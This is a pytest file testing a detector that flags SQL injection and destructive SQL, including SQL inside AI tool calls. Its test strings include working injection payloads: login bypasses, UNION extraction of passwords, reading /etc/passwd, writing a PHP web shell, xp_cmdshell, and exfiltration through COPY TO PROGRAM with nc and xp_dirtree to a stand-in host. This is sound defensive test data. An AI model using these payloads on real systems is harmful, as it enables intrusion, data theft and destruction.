"""Table-driven tests for the ``sql`` scanner: (text, expected findings as (kind, exact span text, band))."""

from __future__ import annotations

import pytest

from infershield.core.matcher import MultiMatcher
from infershield.core.normalize import normalize
from infershield.core.scanners.sql import SqlScanner
from infershield.core.types import Finding

SCANNER = SqlScanner()
DESTRUCTIVE, INJECTION = "sql.destructive", "sql.injection"


def band(score: float) -> str:
    """block: >= 0.8 (blocks by default); mid: above 0.5; low: 0.5 or less."""
    return "block" if score >= 0.8 else "mid" if score > 0.5 else "low"


def run(text: str) -> list[tuple[str, str, str]]:
    return [(f.kind, text[f.span.start : f.span.end], band(f.score)) for f in SCANNER.scan(normalize(text))]


POSITIVES = [
    ("username: admin' OR '1'='1", [(INJECTION, "' OR '1'='1", "block")]),
    ("' OR 1=1 --", [(INJECTION, "' OR 1=1", "block")]),
    ('password: " or ""="', [(INJECTION, '" or ""="', "block")]),
    ("login as x') OR ('a'='a", [(INJECTION, "') OR ('a'='a", "block")]),
    ('{"query": "DROP DATABASE production;"}', [(DESTRUCTIVE, "DROP DATABASE production", "block")]),
    ("'; DROP TABLE users; --", [(INJECTION, "'; DROP TABLE", "block"), (DESTRUCTIVE, "DROP TABLE users", "mid")]),
    ("Robert'); DROP TABLE Students;--",
     [(INJECTION, "'); DROP TABLE", "block"), (DESTRUCTIVE, "DROP TABLE Students", "mid")]),
    ("1' UNION SELECT NULL, NULL, table_name FROM information_schema.tables--",
     [(INJECTION, "UNION SELECT NULL, NULL, table_name FROM information_schema.tables--", "block")]),
    ("search=-1 UNION SELECT 1,2,3--", [(INJECTION, "UNION SELECT 1,2,3--", "block")]),
    ("1' AND SLEEP(5)--", [(INJECTION, "SLEEP(5", "block")]),
    ("'||pg_sleep(10)--", [(INJECTION, "pg_sleep(10", "block")]),
    ("'; WAITFOR DELAY '0:0:5'--", [(INJECTION, "WAITFOR DELAY '0:0:5'", "block")]),
    ("' UNION SELECT LOAD_FILE('/etc/passwd')--", [(INJECTION, "UNION SELECT LOAD_FILE('/etc/passwd')--", "block")]),
    ("SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/shell.php'",
     [(INJECTION, "INTO OUTFILE '/var/www/html/shell.php'", "block")]),
    ("' AND extractvalue(1, concat(0x7e, version()))--", [(INJECTION, "extractvalue(1, concat(", "block")]),
    ("EXEC xp_cmdshell 'whoami'", [(DESTRUCTIVE, "xp_cmdshell", "block")]),
    ("COPY cmd_exec FROM PROGRAM 'id'", [(DESTRUCTIVE, "COPY cmd_exec FROM PROGRAM '", "block")]),
    ("GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%' WITH GRANT OPTION;",
     [(DESTRUCTIVE, "GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%' WITH GRANT OPTION", "block")]),
    ("SELECT * FROM products WHERE id = 10; DROP TABLE products --",
     [(INJECTION, "id = 10; DROP TABLE", "block"), (DESTRUCTIVE, "DROP TABLE products", "mid")]),
    ("admin'--", [(INJECTION, "'--", "mid")]),
    ('{"user": "admin\'#", "pass": "x"}', [(INJECTION, "'#", "mid")]),
    ("id=1 OR 1=1", [(INJECTION, "1 OR 1=1", "mid")]),
    ("DROP TABLE users;", [(DESTRUCTIVE, "DROP TABLE users", "mid")]),
    ("DELETE FROM users;", [(DESTRUCTIVE, "DELETE FROM users", "mid")]),
    ('cursor.execute("DELETE FROM sessions")', [(DESTRUCTIVE, "DELETE FROM sessions", "mid")]),
    ("UPDATE accounts SET balance = 0;", [(DESTRUCTIVE, "UPDATE accounts SET ", "mid")]),
    ("TRUNCATE TABLE audit_log;", [(DESTRUCTIVE, "TRUNCATE TABLE audit_log", "mid")]),
    ("ALTER TABLE users DROP COLUMN legacy;", [(DESTRUCTIVE, "ALTER TABLE users DROP COLUMN", "mid")]),
    ("Then run DROP SCHEMA public CASCADE and reload the dump from backup.",
     [(DESTRUCTIVE, "DROP SCHEMA public", "mid")]),
]

NEGATIVES = [
    ("How do I delete rows older than 30 days in SQL? DELETE FROM logs WHERE created < now() - interval '30 days'", []),
    ("UPDATE users SET active = 0 WHERE id = 3;", []),
    ("UPDATE users\nSET active = 0\nWHERE id = 3;", []),
    ("DELETE FROM logs\nWHERE id < 5;", []),
    ("UPDATE t SET total = s.total FROM staging s WHERE t.id = s.id;", []),
    ("SELECT * FROM users WHERE name = 'bob' -- get bob", []),
    ("SELECT a FROM t1 UNION SELECT a FROM t2", []),
    ("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'", []),
    ("INSERT INTO t VALUES ('a', 'b'); INSERT INTO t VALUES ('c', 'd');", []),
    ("INSERT INTO t VALUES ('a');\nINSERT INTO t VALUES ('b');\nCREATE INDEX i ON t (c);", []),
    ("SELECT * FROM orders; -- list orders", []),
    ("import time\ntime.sleep(5)\nawait asyncio.sleep(1)", []),
    ("We need to update the set of values before we drop support.", []),
    ("Issuing TRUNCATE TABLE will delete all the rows in the table.", []),
    ("You can truncate the string to 20 characters.", []),
    ("I want to delete from my list every item that is empty.", []),
    ('url += u"#" + fragment', []),
    ("print('done')  # finished", []),
    ("mf.load_file(path)", []),
    ("x = 'yes' or 'no'", []),
    ("SELECT * FROM t WHERE name = 'x' OR name = 'y';", []),
    ("if a == 'x' or b == 'y': pass", []),
    ("Please review this migration:\nDROP TABLE IF EXISTS tmp_staging;\nCREATE TABLE tmp_staging (id int);",
     [(DESTRUCTIVE, "DROP TABLE IF EXISTS tmp_staging", "low")]),
    ("What is SQL injection? For example ' OR '1'='1 in a login form.", [(INJECTION, "' OR '1'='1", "low")]),
    ("Never run DROP DATABASE prod on the primary by accident.", [(DESTRUCTIVE, "DROP DATABASE prod", "low")]),
]


# The engine scans each tool call as a line ``name {arguments}``: a match on such a line is about to run.
TOOL_CALLS = [
    ('run_query {"sql": "SELECT id FROM t WHERE x = 1; DELETE FROM audit_events WHERE 1=1;"}',
     [(INJECTION, "; DELETE FROM ", "block")]),
    ('db_exec {"statement": "select name from pets; insert into admins (name) values (\'eve\')"}',
     [(INJECTION, "; insert into ", "block")]),
    ('sql {"q": "SELECT 1; ALTER ROLE web_user WITH LOGIN"}', [(INJECTION, "; ALTER ROLE ", "block")]),
    ('get_item {"item_id": "55 AND 1=(SELECT COUNT(*) FROM secrets_table)"}',
     [(INJECTION, "AND 1=(SELECT", "block")]),
    ("price > 3 AND ASCII(SUBSTRING((SELECT name FROM t LIMIT 1),1,1)) > 64", [(INJECTION, "AND ASCII(SUBSTRING((SELECT", "mid")]),
    ('find_order {"ref": "12) OR (3=3"}', [(INJECTION, "12) OR (3=3", "block")]),
    ('graph {"cypher": "MATCH (x) DETACH DELETE x"}', [(DESTRUCTIVE, "MATCH (x) DETACH DELETE x", "block")]),
    ('migrate {"sql": "CREATE USER ops2 WITH SUPERUSER PASSWORD \'p\'"}',
     [(DESTRUCTIVE, "CREATE USER ops2 WITH SUPERUSER", "block")]),
    ('run_sql {"query": "COPY (SELECT * FROM t) TO PROGRAM \'nc host 9\'"}',
     [(DESTRUCTIVE, "COPY (SELECT * FROM t) TO PROGRAM '", "block")]),
    ('lookup {"name": "x\' UNION SELECT login, passwd FROM accounts --"}',
     [(INJECTION, "UNION SELECT login, passwd FROM accounts --\"}", "block")]),
    # hard negatives: ordinary statements and scripts in tool calls, graph deletes with a filter
    ('run_sql {"query": "SELECT region, SUM(x) FROM sales GROUP BY region;"}', []),
    ('run_sql {"query": "BEGIN; UPDATE jobs SET state = \'done\' WHERE id = 7; COMMIT;"}', []),
    ('graph {"cypher": "MATCH (n:Temp) WHERE n.age > 3 DETACH DELETE n"}', []),
    ('migrate {"sql": "CREATE ROLE reporting LOGIN PASSWORD \'x\'; GRANT SELECT ON t TO reporting;"}', []),
    ("How would I wipe a Neo4j test database? Is MATCH (n) DETACH DELETE n the usual way?",
     [(DESTRUCTIVE, "MATCH (n) DETACH DELETE n", "low")]),
    ("SELECT a FROM t; DELETE FROM t WHERE a < 3;", []),
]


@pytest.mark.parametrize(("text", "expected"), POSITIVES + NEGATIVES + TOOL_CALLS)
def test_table(text: str, expected: list[tuple[str, str, str]]) -> None:
    assert run(text) == expected


def test_migration_with_many_statements_stays_below_block() -> None:
    migration = "\n".join(f"DROP TABLE IF EXISTS tmp_{i};\nALTER TABLE t{i} DROP COLUMN c;" for i in range(12))
    (finding,) = SCANNER.scan(normalize(migration))
    assert finding.kind == DESTRUCTIVE
    assert finding.score <= 0.55
    assert "23 more match(es)" in finding.why


RULE_EXAMPLES = {
    "SQL-DROP-DB": "DROP DATABASE shop;",
    "SQL-DROP-TABLE": "DROP TABLE users;",
    "SQL-TRUNCATE": "truncate audit;",
    "SQL-DELETE-ALL": "DELETE FROM users;",
    "SQL-UPDATE-ALL": "UPDATE users SET role = 'admin';",
    "SQL-ALTER-DROP": "ALTER TABLE users DROP COLUMN email;",
    "SQL-GRANT-ALL": "GRANT ALL ON db.* TO 'app'@'localhost';",
    "SQL-XP-CMDSHELL": "EXEC sp_configure 'xp_cmdshell', 1;",
    "SQL-COPY-PROGRAM": "COPY t FROM PROGRAM 'id';",
    "SQL-TAUTOLOGY": "' or true--",
    "SQL-TAUTOLOGY-NUM": "?id=5 or 2=2",
    "SQL-STACKED": "x'; exec master..xp_dirtree '//evil/a'--",
    "SQL-STACKED-NUM": "id=1; DROP TABLE users--",
    "SQL-UNION": "' UNION ALL SELECT NULL,NULL--",
    "SQL-COMMENT": "admin'/*",
    "SQL-TIME": "1 or benchmark(5000000,md5(1))",
    "SQL-WAITFOR": "WAITFOR DELAY '00:00:05'",
    "SQL-OUTFILE": "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'",
    "SQL-LOAD-FILE": "SELECT LOAD_FILE(0x2f6574632f706173737764)",
    "SQL-ERROR-BASED": "and updatexml(1,concat(0x7e,user()),1)",
    "SQL-PIGGYBACK": 'q {"sql": "SELECT 1; DROP TABLE t"}',
    "SQL-BLIND": "1 AND 1=(SELECT 1)",
    "SQL-SUPERUSER": "ALTER ROLE bob WITH SUPERUSER;",
    "SQL-GRAPH-WIPE": "MATCH (n) DELETE n",
}


def _raw(text: str) -> list[Finding]:
    """Findings before the per-kind merge, so every rule can be checked on its own."""
    normalized = normalize(text)
    hits = MultiMatcher(SCANNER.rules()).hits(normalized.clean.text, normalized.folded.text)
    return [f for f in (SCANNER.finding(hit, normalized) for hit in hits) if f is not None]


def test_every_rule_has_an_example() -> None:
    assert set(RULE_EXAMPLES) == {rule.id for rule in SCANNER.rules()}


@pytest.mark.parametrize(("rule_id", "text"), sorted(RULE_EXAMPLES.items()))
def test_every_rule_fires(rule_id: str, text: str) -> None:
    assert rule_id in {f.rule for f in _raw(text)}


def test_why_names_the_rule_and_clips_the_evidence() -> None:
    text = "x'; DROP TABLE " + "a" * 200 + "; --"
    for finding in SCANNER.scan(normalize(text)):
        assert finding.why.startswith(finding.rule + ":")
        assert "a" * 41 not in finding.why
